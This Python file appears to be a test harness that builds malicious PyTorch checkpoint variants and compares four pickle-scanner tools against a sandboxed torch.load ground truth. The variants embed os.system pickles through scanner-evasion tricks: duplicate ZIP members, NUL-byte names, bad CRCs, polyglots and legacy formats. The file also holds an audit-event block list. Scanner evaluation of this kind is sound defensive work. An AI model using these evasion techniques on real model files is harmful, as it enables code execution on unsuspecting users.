          "torchutils._rebuild_tensor_v2: a look-alike module that is not installed",
          _w(_evil_zip(_call("torchutils", "_rebuild_tensor_v2")))),
        # -- other formats and other pickles of the file --
        c("legacy-protocol-pickle", "legacy_proto.pt", "payload",
          "legacy file whose second pickle (the protocol version) is os.system",
          _legacy_with(1, inner_pickle())),
        c("legacy-sys-info", "legacy_sysinfo.pt", "payload",
          "legacy file whose third pickle (sys_info) is os.system; the rest is a real file",
          _legacy_with(2, inner_pickle())),
        c("legacy-storage-keys", "legacy_keys.pt", "payload",
          "legacy file whose fifth pickle (storage keys) is os.system",
          _legacy_with(4, inner_pickle())),
        c("legacy-appended", "legacy_tail.pt", "inert",
          "legacy file with an os.system pickle appended after the storages", _legacy_appended),
        c("tar-storages", "tar_storages.pt", "payload",
          "the tar format (PyTorch < 0.1.10) with the 'storages' member an os.system pickle",
          _tar("storages")),
        c("tar-pickle", "tar_pickle.pt", "payload",
          "the tar format with the main 'pickle' member an os.system pickle", _tar("pickle")),
        c("tar-sys-info", "tar_sysinfo.pt", "inert",
          "the tar format with 'sys_info' an os.system pickle (torch never unpickles it)",
          _tar("sys_info")),
        c("torchscript-constants", "ts_constants.pt", "payload",
          "a real TorchScript file whose constants.pkl is os.system",
          _torchscript_with("/constants.pkl", inner_pickle())),
        c("torchscript-data", "ts_data.pt", "payload",
          "a real TorchScript file whose data.pkl is os.system",
          _torchscript_with("/data.pkl", inner_pickle())),
        c("torchscript-extra-pkl", "ts_extra.pt", "inert",
          "a real TorchScript file plus an extra/evil.pkl member", _torchscript_extra),
        c("extra-pkl-member", "extra_member.ckpt", "inert",
          "clean torch zip plus archive/extra/evil.pkl (torch never reads it)",
          _w(torch_zip(CLEAN, extra=[M("archive/extra/evil.pkl", inner_pickle())]))),
        c("storage-is-pickle", "storage_pickle.ckpt", "inert",
          "clean data.pkl; the storage member archive/data/0 holds an os.system pickle",
          _w(zip_bytes([M("archive/data.pkl", checkpoint_pickle(numel=16)),
                        M("archive/byteorder", b"little"),
                        M("archive/data/0", inner_pickle().ljust(64, b"N")),
                        M("archive/version", b"3\n")]))),
        c("nested-zip", "nested.ckpt", "inert",
          "clean torch zip with an evil torch zip stored as archive/extra/model.pt", _nested_zip),
    ]
    # -- the same evil zip under other names (JFrog CVE-2025-10155, GHSA-769v-p64c-89pr) --
    for ext in (".bin", ".pth", ".pt", ".ckpt", ""):
        out.append(c(f"ext{ext or '-none'}", f"zip_model{ext}", "payload",
                     f"the os.system torch zip named *{ext or ' (no extension)'}",
                     _w(EVIL_ZIP), "jfrog-2025"))
    for ext in (".bin", ".pt", ""):
        out.append(c(f"raw-pickle{ext or '-none'}", f"raw_model{ext}", "payload",
                     f"a bare os.system pickle named *{ext or ' (no extension)'}",
                     _w(inner_pickle()), "jfrog-2025"))
    out += [
        # -- ZIP tricks: members torch and Python's zipfile pick differently --
        c("dup-data-pkl-evil-second", "dup2.ckpt", "payload",
          "two archive/data.pkl members: clean first, os.system second",
          _w(torch_zip(CLEAN, extra=[M("archive/data.pkl", EVIL)]))),
        c("dup-data-pkl-evil-first", "dup1.ckpt", "payload",
          "two archive/data.pkl members: os.system first, clean second",
          _w(torch_zip(EVIL, extra=[M("archive/data.pkl", CLEAN)]))),
        c("dup-data-pkl-evil-middle", "dup3.ckpt", "payload",
          "seven other members, then three archive/data.pkl: clean, os.system, clean (torch's "
          "sorted lookup picks the middle one here)", _w(lambda: zip_bytes(
              [M(f"archive/aaa{i}", b"x") for i in range(7)]
              + [M("archive/data.pkl", CLEAN), M("archive/data.pkl", EVIL),
                 M("archive/data.pkl", CLEAN), M("archive/byteorder", b"little"),
                 M("archive/data/0", FLOATS), M("archive/version", b"3\n")]))),
        c("upper-DATA-PKL-evil", "upper1.ckpt", "payload",
          "archive/DATA.PKL (os.system) beside a clean archive/data.pkl",
          _w(torch_zip(CLEAN, first=[M("archive/DATA.PKL", EVIL)]))),
        c("upper-DATA-PKL-clean", "upper2.ckpt", "payload",
          "a clean archive/DATA.PKL beside an os.system archive/data.pkl",
          _w(torch_zip(EVIL, first=[M("archive/DATA.PKL", CLEAN)]))),
        c("nul-in-name", "nul.ckpt", "payload",
          "os.system archive/data.pkl, then a clean member named archive/data.pkl\\0.bak "
          "(zipfile cuts names at NUL)",
          _w(torch_zip(EVIL, extra=[M(b"archive/data.pkl\x00.bak", CLEAN)]))),
        c("nul-in-name-first", "nul_first.ckpt", "payload",
          "a clean member archive/data.pkl\\0.bak before the os.system archive/data.pkl",
          _w(torch_zip(EVIL, first=[M(b"archive/data.pkl\x00.bak", CLEAN)]))),
        c("local-name-mismatch", "name_mismatch.ckpt", "payload",
          "data.pkl's local header names another file than the central directory "
          "(CVE-2025-1944)", _w(torch_zip(EVIL, pkl=M("archive/data.pkl", EVIL,
                                                       local_name=b"archive/data.pkX"))),
          "sonatype-2025"),
        c("bad-crc", "bad_crc.ckpt", "payload",
          "os.system data.pkl with a wrong CRC-32 (CVE-2025-10156)",
          _w(torch_zip(EVIL, pkl=M("archive/data.pkl", EVIL, crc=0x12345678))), "jfrog-2025"),
        c("encrypted-flag", "flag_bit.ckpt", "payload",
          "data.pkl with general-purpose flag bit 0 (encrypted) set, bytes not encrypted "
          "(GHSA-w8jq-xcqf-f792)",
          _w(torch_zip(EVIL, pkl=M("archive/data.pkl", EVIL, flags=1))), "modelscan#263"),
        c("bad-local-header-before", "bad_local.ckpt", "payload",
          "a member with a corrupt local header before the os.system data.pkl (modelscan #355)",
          _w(torch_zip(EVIL, first=[M("archive/.format_version", b"1"),
                                    M("archive/aaa", b"x" * 16, bad_local=True)])),
          "modelscan#355"),
        c("deflated-data-pkl", "deflate.ckpt", "payload", "os.system data.pkl DEFLATE-compressed",
          _w(torch_zip(EVIL, pkl=M("archive/data.pkl", EVIL, deflate=True)))),
        c("junk-prefix", "junk_prefix.ckpt", "inert",
          "64 junk bytes before an os.system torch zip (torch checks PK\\3\\4 at byte 0)",
          _w(torch_zip(EVIL, prefix=b"\x00junk" * 12 + b"JUNK"))),
        c("pickle-zip-polyglot", "polyglot.ckpt", "payload",
          "an os.system pickle, then a clean torch zip behind it (zip readers find the zip)",
          _w(torch_zip(CLEAN, prefix=inner_pickle()))),
        c("huge-comment", "comment.ckpt", "payload",
          "os.system torch zip (80 kB storage) with a 65,535-byte archive comment",
          _w(lambda: torch_zip(checkpoint_pickle(_call("os", "system"), numel=20000),
                               storage=bytes(80000), comment=b"C" * 65535))),
        c("fake-eocd-in-comment", "fake_eocd.ckpt", "inert",
          "os.system torch zip whose comment holds a stray end-of-central-directory signature",
          _w(torch_zip(EVIL, comment=b"PK\x05\x06" + b"\xff" * 30))),
    ]
    # fmt: on
    return out


# -- ground truth: real torch with a recording pickle module, in a child process -------------

_BLOCK_EVENTS = (
    "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty",
    "subprocess.Popen", "pty.spawn", "webbrowser.open", "socket.connect", "socket.bind",
    "socket.getaddrinfo", "ctypes.dlopen", "ctypes.dlsym", "os.startfile", "os.kill",
)  # fmt: skip


def _ground_truth_child(path: str) -> dict[str, object]:
    """Runs in a fresh interpreter: torch.load the file with every non-allowlisted global
    recorded and replaced by a stub, process creation refused by an audit hook."""
    import pickle
    import types
    import warnings

    import torch
    import torch._weights_only_unpickler as wou

    allowed = wou._get_allowed_globals()
    records: list[dict[str, object]] = []
    events: list[str] = []
    armed = [False]

    def hook(event: str, args: tuple[object, ...]) -> None:
        if not armed[0]:
            return
        if event.startswith(_BLOCK_EVENTS):
            events.append(f"BLOCKED {event}")
            raise RuntimeError(f"compare_scanners: {event} refused during torch.load")
        if event == "import" and args and isinstance(args[0], str):
            events.append(f"import {args[0]}")

    sys.addaudithook(hook)

    class StubMeta(type):
        def __getattr__(cls, attr: str) -> object:
            if attr.startswith("__"):
                raise AttributeError(attr)
            return make_stub(f"{cls.__qualname__}.{attr}")

    class StubBase(metaclass=StubMeta):
        def __init__(self, *args: object, **kwargs: object) -> None:
            pass

        def __call__(self, *args: object, **kwargs: object) -> object:
            return type(self)()

        def __getattr__(self, attr: str) -> object:
            if attr.startswith("__"):
                raise AttributeError(attr)
            return make_stub(attr)()

        # static: BUILD/APPEND may target the stub class itself as well as an instance
        __setstate__ = staticmethod(lambda *args: None)
        append = staticmethod(lambda *args: None)
        extend = staticmethod(lambda *args: None)

        def __setitem__(self, key: object, value: object) -> None:
            pass

    def make_stub(label: str) -> type:
        return StubMeta("Stub_" + "".join(c if c.isalnum() else "_" for c in label)[:60],
                        (StubBase,), {"__qualname__": label})  # fmt: skip

    def peek(module: str, name: str) -> str | None:
        """What the name would resolve to, without importing anything or calling anything:
        only walks attributes of a module that is already imported."""
        obj: object = sys.modules.get(module)
        if obj is None:
            return None
        try:
            for part in name.split("."):
                obj = getattr(obj, part)
        except Exception:  # noqa: BLE001 - any failure means "does not resolve"
            return "<does not resolve>"
        mod = getattr(obj, "__module__", None) or getattr(obj, "__name__", "?")
        qual = getattr(obj, "__qualname__", None) or type(obj).__qualname__
        return f"{mod}.{qual}" if not isinstance(obj, types.ModuleType) else f"module {mod}"

    class Recorder(pickle.Unpickler):
        def find_class(self, module: str, name: str) -> object:
            key = f"{module}.{name}"
            if key in allowed:
                records.append({"module": module, "name": name, "allowlisted": True})
                return allowed[key]
            records.append(
                {
                    "module": module,
                    "name": name,
                    "allowlisted": False,
                    "resolves_to": peek(module, name),
                }  # fmt: skip
            )
            return make_stub(key)

    recording = types.ModuleType("recording_pickle")
    recording.Unpickler = Recorder  # type: ignore[attr-defined]
    recording.load = lambda f, **kw: Recorder(f, **kw).load()  # type: ignore[attr-defined]
    recording.loads = lambda b, **kw: Recorder(io.BytesIO(b), **kw).load()  # type: ignore[attr-defined]
    recording.UnpicklingError = pickle.UnpicklingError  # type: ignore[attr-defined]

    jit_calls: list[str] = []
    real_jit_load = torch.jit.load

    def jit_load(f: object, *args: object, **kwargs: object) -> object:
        jit_calls.append("torch.load handed the file to torch.jit.load")
        return real_jit_load(f, *args, **kwargs)  # type: ignore[arg-type]

    torch.jit.load = jit_load  # type: ignore[assignment]
    error = None
    warnings.simplefilter("ignore")
    armed[0] = True
    try:
        torch.load(path, weights_only=False, pickle_module=recording, map_location="cpu")
    except BaseException as exc:  # noqa: BLE001 - the load's outcome is data here
        text = " ".join(ln.strip() for ln in str(exc).splitlines() if ln.strip())
        error = f"{type(exc).__name__}: {text}"[:400]
    armed[0] = False
    dangerous = sorted(
        {
            f"{r['module']}.{r['name']}"
            for r in records
            if not r["allowlisted"]
            and r.get("resolves_to") != "<does not resolve>"
            and (is_dangerous(str(r["module"]), str(r["name"])) or _resolved_dangerous(r))
        }
    )
    return {
        "dangerous": bool(dangerous),
        "dangerous_globals": dangerous,
        "globals": [
            f"{r['module']}.{r['name']}"
            + ("" if r["allowlisted"] else f" -> {r.get('resolves_to')}")
            for r in records
        ],
        "error": error,
        "jit": jit_calls,
        "events": [e for e in events if e.startswith("BLOCKED")]
        + sorted({e for e in events if e.startswith("import")}),
    }


def _resolved_dangerous(record: dict[str, object]) -> bool:
    target = record.get("resolves_to")
    if not isinstance(target, str) or target.startswith("<"):
        return False
    target = target.removeprefix("module ")
    module, _, name = target.rpartition(".")
    return is_dangerous(module or target, name or target)


def ground_truth(path: pathlib.Path, timeout: float) -> dict[str, object]:
    try:
        proc = subprocess.run(
            [sys.executable, __file__, "--_ground-truth", str(path)],
            capture_output=True, text=True, timeout=timeout, cwd=path.parent,
        )  # fmt: skip
    except subprocess.TimeoutExpired:
        return {"dangerous": None, "error": f"ground truth timed out after {timeout:.0f} s"}
    try:
        return json.loads(proc.stdout.strip().splitlines()[-1])  # type: ignore[no-any-return]
    except (ValueError, IndexError):
        return {"dangerous": None, "error": f"child exited {proc.returncode}: {proc.stderr[-400:]}"}


# -- the scanners ----------------------------------------------------------------------------


@dataclasses.dataclass
class Outcome:
    verdict: str  # "flags" | "safe" | "error" | "skipped" (ckptpeek: its own verdict)
    rc: int | None
    detail: str
    head: list[str]


def _run(
    argv: list[str], timeout: float, cwd: pathlib.Path, pythonpath: str | None = None
) -> tuple[int | None, str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "VIRTUAL_ENV")}
    if pythonpath:
        env["PYTHONPATH"] = pythonpath
    env["NO_COLOR"] = "1"
    env["COLUMNS"] = "200"
    try:
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, cwd=cwd,
                              env=env, errors="replace")  # fmt: skip
    except subprocess.TimeoutExpired:
        return None, "", f"timed out after {timeout:.0f} s"
    return proc.returncode, proc.stdout, proc.stderr


def _head(*texts: str, n: int = 6) -> list[str]:
    lines = [ln.rstrip() for t in texts for ln in t.splitlines() if ln.strip()]
    return [ln[:200] for ln in lines[:n]]


def run_picklescan(bin_dir: pathlib.Path, path: pathlib.Path, timeout: float,
                   work: pathlib.Path) -> Outcome:  # fmt: skip
    rc, out, err = _run([str(bin_dir / "picklescan"), "--path", str(path)], timeout, work)
    counts = {}
    for line in out.splitlines():
        key, _, value = line.partition(":")
        if value.strip().isdigit():
            counts[key.strip()] = int(value)
    detail = ", ".join(f"{k.lower()} {v}" for k, v in counts.items() if k != "Scanned files")
    crashed = "Traceback (most recent call last)" in err
    if counts.get("Infected files", 0) or counts.get("Dangerous globals", 0):
        verdict = "flags"
    elif rc == 1 and not crashed:
        verdict = "flags"
    elif rc == 0 and counts.get("Scanned files", 0) == 0:
        verdict = "skipped"
    elif rc == 0:
        verdict = "safe"
    else:
        verdict = "error"
    return Outcome(verdict, rc, detail, _head(out, err))


def run_modelscan(bin_dir: pathlib.Path, path: pathlib.Path, timeout: float,
                  work: pathlib.Path) -> Outcome:  # fmt: skip
    report = work / "modelscan.json"
    report.unlink(missing_ok=True)
    argv = [str(bin_dir / "modelscan"), "-p", str(path), "-r", "json", "-o", str(report),
            "--show-skipped"]  # fmt: skip
    rc, out, err = _run(argv, timeout, work)
    data: dict[str, object] = {}
    try:
        data = json.loads(report.read_text())
    except (OSError, ValueError):
        pass
    issues = data.get("issues") or []
    errors = data.get("errors") or []
    summary = data.get("summary") or {}
    scanned = (
        (summary.get("scanned") or {}).get("total_scanned", 0) if isinstance(summary, dict) else 0
    )  # type: ignore[union-attr]
    ops = sorted({f"{i.get('module')}.{i.get('operator')}" for i in issues if isinstance(i, dict)})  # type: ignore[union-attr]
    detail = ", ".join(ops[:4])
    if errors:
        detail += ("; " if detail else "") + "; ".join(
            str(e.get("description", e))[:120]
            for e in errors[:2]
            if isinstance(e, dict)  # type: ignore[union-attr]
        )
    if issues:
        verdict = "flags"
    elif errors or rc not in (0, 3):
        verdict = "error"
    elif rc == 3 or not scanned:
        verdict = "skipped"
    else:
        verdict = "safe"
    return Outcome(verdict, rc, detail, _head(out, err))


_FICKLING_ZIP_API = """
import json, sys, fickling
res = fickling.scan_zip_archive(sys.argv[1], graceful=True)
print(json.dumps({k: [v.severity.name, v.errors] for k, v in res.items()}))
"""


def _fickling_severities(report: pathlib.Path) -> list[str]:
    """The severities in fickling's --json-output file (one JSON object per stacked pickle)."""
    try:
        text = report.read_text()
    except OSError:
        return []
    found, pos, decoder = [], 0, json.JSONDecoder()
    while pos < len(text):
        try:
            obj, pos = decoder.raw_decode(text, pos)
        except ValueError:
            break
        if isinstance(obj, dict) and obj.get("severity") not in found:
            found.append(str(obj.get("severity")))
        while pos < len(text) and text[pos].isspace():
            pos += 1
    return found


def run_fickling(bin_dir: pathlib.Path, path: pathlib.Path, timeout: float,
                 work: pathlib.Path) -> Outcome:  # fmt: skip
    """``fickling --check-safety``; a file it cannot parse that Python's zipfile reads as a
    ZIP goes to ``fickling.scan_zip_archive`` (its API for archives: every .pkl/.bin member)."""
    argv = [str(bin_dir / "fickling"), "--check-safety", "--print-results", "--json-output",
            str(work / "fickling.json"), str(path)]  # fmt: skip
    rc, out, err = _run(argv, timeout, work)
    head = _head(out, err, n=4)
    crashed = "Traceback (most recent call last)" in err  # an uncaught exception exits 1 too
    if crashed:
        head = ["CLI crashed: " + err.strip().splitlines()[-1][:160]]
    elif rc == 1:
        sev = _fickling_severities(work / "fickling.json")
        return Outcome("flags", rc, "CLI: " + ",".join(sev), head)
    elif rc == 0:
        return Outcome("safe", rc, "CLI", head)
    if not zipfile.is_zipfile(path):
        return Outcome("crash" if crashed else "error", rc, "CLI: " + (head[0] if head else ""),
                       head)  # fmt: skip
    rc2, out2, err2 = _run([str(bin_dir / "python"), "-c", _FICKLING_ZIP_API, str(path)],
                           timeout, work)  # fmt: skip
    head += ["zip API:"] + _head(out2, err2, n=3)
    try:
        members: dict[str, list[object]] = json.loads(out2.strip().splitlines()[-1])
    except (ValueError, IndexError):
        return Outcome("error", rc, "zip API failed", head)
    flagged = [m for m, (sev, errs) in members.items() if sev != "LIKELY_SAFE" and not errs]
    errored = [m for m, (_sev, errs) in members.items() if errs]
    if flagged:
        sev = {members[m][0] for m in flagged}
        return Outcome("flags", rc, "zip API: " + ",".join(sorted(sev)), head)  # type: ignore[arg-type]
    if errored:
        return Outcome("error", rc, "zip API: " + str(members[errored[0]][1])[:120], head)
    if not members:
        return Outcome("skipped", rc, "zip API: no .pkl/.bin member", head)
    return Outcome("safe", rc, "zip API", head)


def run_ckptpeek(
    path: pathlib.Path, timeout: float, work: pathlib.Path, src: str | None = None
) -> Outcome:
    """``ckptpeek scan --json`` of this environment (or of the source tree ``src``)."""
    argv = [sys.executable, "-m", "ckptpeek", "scan", "--json", str(path)]
    rc, out, err = _run(argv, timeout, work, pythonpath=src)
    try:
        report = json.loads(out)[0]
    except (ValueError, IndexError, KeyError):
        crash = "Traceback" in err
        last = err.strip().splitlines()[-1][:160] if err.strip() else "no JSON"
        return Outcome("crash" if crash else "error", rc, last, _head(out, err))
    verdict = str(report.get("verdict"))
    bad = [f"{g['module']}.{g['name']}" for g in report.get("globals", []) if g["class"] != "safe"]
    detail = ", ".join(bad[:3])
    if report.get("error"):
        detail += ("; " if detail else "") + str(report["error"].get("code"))
    elif report.get("anomalies"):
        detail += ("; " if detail else "") + str(report["anomalies"][0])[:100]
    lines = [f"verdict {verdict}"] + [f"anomaly: {a}" for a in report.get("anomalies", [])[:3]]
    return Outcome(verdict, rc, detail, lines)


# -- the run -----------------------------------------------------------------------------------

TOOLS = ("picklescan", "modelscan", "fickling", "ckptpeek")


def says_safe(tool: str, verdict: str) -> bool:
    del tool  # every tool spells it "safe" here
    return verdict == "safe"


def flags(tool: str, verdict: str) -> bool:
    return (
        verdict in ("flags", "unknown", "dangerous", "refused")
        if tool == "ckptpeek"
        else (verdict == "flags")
    )


def cell(tool: str, outcome: dict[str, object], truth: bool | None, kind: str) -> str:
    verdict = str(outcome["verdict"])
    text = verdict
    if truth and says_safe(tool, verdict):
        text = "**safe (missed)**"
    elif kind == "clean" and flags(tool, verdict):
        text = f"{verdict} (false alarm)"
    return text


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument(
        "--cache",
        type=pathlib.Path,
        default=CACHE / "scanner-cases",
        help="where the cases and results go (never inside the repo)",
    )
    ap.add_argument(
        "--scanners-venv", type=pathlib.Path, default=pathlib.Path("/tmp/venv-scanners")
    )
    ap.add_argument("--only", nargs="*", default=None, help="case names to run")
    ap.add_argument("--timeout", type=float, default=60.0, help="seconds per tool call")
    ap.add_argument("--jobs", type=int, default=2)
    ap.add_argument("--ckptpeek-src", default=None,
                    help="run ckptpeek from this source tree (its src/ directory) instead of "
                         "the installed one, e.g. an export of a commit")  # fmt: skip
    ap.add_argument("--_ground-truth", dest="ground_truth", default=None, help=argparse.SUPPRESS)
    args = ap.parse_args()
    if args.ground_truth:
        print(json.dumps(_ground_truth_child(args.ground_truth)))
        return 0

    root = args.cache.expanduser().resolve()
    if root == REPO or REPO in root.parents:
        ap.error(f"--cache {root} is inside the repository")
    all_cases = cases()
    selected = [c for c in all_cases if args.only is None or c.name in args.only]
    case_dir = root / "cases"
    shutil.rmtree(case_dir, ignore_errors=True)
    for c in selected:
        d = case_dir / c.name
        d.mkdir(parents=True)
        c.build(d / c.file)

    bin_dir = args.scanners_venv / "bin"
    tools: dict[str, Callable[[pathlib.Path, pathlib.Path], Outcome]] = {}
    missing = []
    for tool, runner in (("picklescan", run_picklescan), ("modelscan", run_modelscan),
                         ("fickling", run_fickling)):  # fmt: skip
        if (bin_dir / tool).exists():
            tools[tool] = lambda p, w, r=runner: r(bin_dir, p, args.timeout, w)  # type: ignore[misc]
        else:
            missing.append(tool)
    tools["ckptpeek"] = lambda p, w: run_ckptpeek(p, args.timeout, w, args.ckptpeek_src)
    versions = tool_versions(bin_dir, tools)
    if args.ckptpeek_src:
        versions["ckptpeek"] = f"from {args.ckptpeek_src}"

    def one(c: Case) -> dict[str, object]:
        path = case_dir / c.name / c.file
        truth = ground_truth(path, max(args.timeout, 120.0))
        results: dict[str, object] = {}
        for tool, run in tools.items():
            with tempfile.TemporaryDirectory(prefix=f"{tool}-", dir=root) as work:
                results[tool] = dataclasses.asdict(run(path, pathlib.Path(work)))
        return {
            "case": c.name, "file": str(path), "kind": c.kind, "description": c.description,
            "source": SOURCES.get(c.source, ""), "size": path.stat().st_size,
            "torch": truth, "tools": results,
        }  # fmt: skip

    with ThreadPoolExecutor(max(1, args.jobs)) as pool:
        rows = list(pool.map(one, selected))

    table = render(rows, list(tools), versions, missing)
    (root / "results.json").write_text(json.dumps({"versions": versions, "cases": rows}, indent=2))
    (root / "table.md").write_text(table)
    print(table)
    print(f"\nraw results: {root / 'results.json'}  (cases in {case_dir})")
    return 0


def tool_versions(bin_dir: pathlib.Path, tools: dict[str, object]) -> dict[str, str]:
    import importlib.metadata

    import torch

    rc, head, _ = _run(["git", "-C", str(REPO), "rev-parse", "--short", "HEAD"], 30, REPO)
    rc2, dirty, _ = _run(["git", "-C", str(REPO), "status", "--porcelain", "src", "native"], 30,
                         REPO)  # fmt: skip
    commit = head.strip() if rc == 0 else "?"
    if rc2 == 0 and dirty.strip():
        commit += " + uncommitted changes in src/ or native/"
    out = {"torch": torch.__version__, "python": sys.version.split()[0],
           "ckptpeek": f"{importlib.metadata.version('ckptpeek')} (commit {commit})"}  # fmt: skip
    for tool in ("picklescan", "modelscan", "fickling"):
        if tool in tools:
            rc, stdout, _ = _run([str(bin_dir / "python"), "-c",
                                  f"import importlib.metadata as m; print(m.version({tool!r}))"],
                                 30, bin_dir)  # fmt: skip
            out[tool] = stdout.strip() if rc == 0 else "?"
    return out


def render(rows: list[dict[str, object]], tools: list[str], versions: dict[str, str],
           missing: list[str]) -> str:  # fmt: skip
    lines = [
        "Tools: "
        + ", ".join(f"{k} {v}" for k, v in versions.items())
        + (f"; not installed: {', '.join(missing)}" if missing else ""),
        "",
        "| case | description | torch imports something dangerous | " + " | ".join(tools) + " |",
        "|---|---|---|" + "---|" * len(tools),
    ]
    stats = {t: {"missed": [], "false": [], "error": [], "gate": []} for t in tools}
    broken = []
    for r in rows:
        truth_d: dict[str, object] = r["torch"]  # type: ignore[assignment]
        truth = truth_d.get("dangerous")
        kind = str(r["kind"])
        if truth is None:
            gt = "? (" + str(truth_d.get("error")) + ")"
        elif truth:
            gt = "**yes**: " + ", ".join(truth_d["dangerous_globals"])  # type: ignore[arg-type]
        else:
            why = "no"
            if truth_d.get("jit"):
                why += " (torch.jit.load)"
            if truth_d.get("error"):
                why += ": " + str(truth_d["error"]).split(":")[0]
            gt = why
        cells = []
        for t in tools:
            o: dict[str, object] = r["tools"][t]  # type: ignore[index]
            cells.append(cell(t, o, bool(truth), kind))
            v = str(o["verdict"])
            if truth and says_safe(t, v):
                stats[t]["missed"].append(str(r["case"]))
                if t == "ckptpeek":
                    broken.append(r)
            if truth and o.get("rc") == 0:
                stats[t]["gate"].append(str(r["case"]))
            if kind == "clean" and flags(t, v):
                stats[t]["false"].append(str(r["case"]))
            if v in ("error", "skipped", "crash") or (t == "ckptpeek" and v == "refused"):
                stats[t]["error"].append(str(r["case"]))
        lines.append(f"| `{r['case']}` | {r['description']} | {gt} | " + " | ".join(cells) + " |")
    n_danger = sum(1 for r in rows if r["torch"].get("dangerous"))  # type: ignore[union-attr]
    n_clean = sum(1 for r in rows if r["kind"] == "clean")
    lines += ["", f"{len(rows)} cases: {n_danger} where torch.load would import something "
              f"dangerous, {n_clean} clean files written by torch.", ""]  # fmt: skip
    for t in tools:
        s = stats[t]
        label = "errors/refusals" if t == "ckptpeek" else "errors/skips"
        lines.append(
            f"- **{t}**: missed payloads (says safe) {len(s['missed'])}/{n_danger}"
            + (f" ({', '.join(s['missed'])})" if s["missed"] else "")
            + f"; exit status 0 on a dangerous file {len(s['gate'])}/{n_danger}"
            + f"; false alarms {len(s['false'])}/{n_clean}"
            + (f" ({', '.join(s['false'])})" if s["false"] else "")
            + f"; {label} {len(s['error'])}"
            + (f" ({', '.join(s['error'])})" if s["error"] else "")
        )
    mismatched = [
        r["case"] for r in rows
        if r["kind"] == "payload" and r["torch"].get("dangerous") is False  # type: ignore[union-attr]
    ]  # fmt: skip
    if mismatched:
        lines.append(f"\nBuilt as payloads but torch does not reach them: {', '.join(mismatched)}")
    for r in broken:
        lines.append(
            f"\nCLAIM BROKEN: ckptpeek says safe on `{r['case']}` ({r['description']}), "
            f"where torch imports {r['torch']['dangerous_globals']}"
        )  # type: ignore[index]
    if not broken:
        lines.append(
            "\nckptpeek said `safe` on none of the files where torch would import "
            "something dangerous."
        )
    blocked = [r["case"] for r in rows
               if any(str(e).startswith("BLOCKED") for e in r["torch"].get("events", []))]  # type: ignore[union-attr]  # fmt: skip
    lines.append(f"\nGround truth: the audit hook refused a system call while torch loaded "
                 f"{len(blocked)} files{': ' + ', '.join(map(str, blocked)) if blocked else ''} "
                 "(0 means no payload got past the recorder).")  # fmt: skip
    srcs = sorted({str(r["source"]) for r in rows if r["source"]})
    if srcs:
        lines += ["", "Bypass reports the cases follow: " + ", ".join(srcs)]
    return "\n".join(lines)


if __name__ == "__main__":
    sys.exit(main())
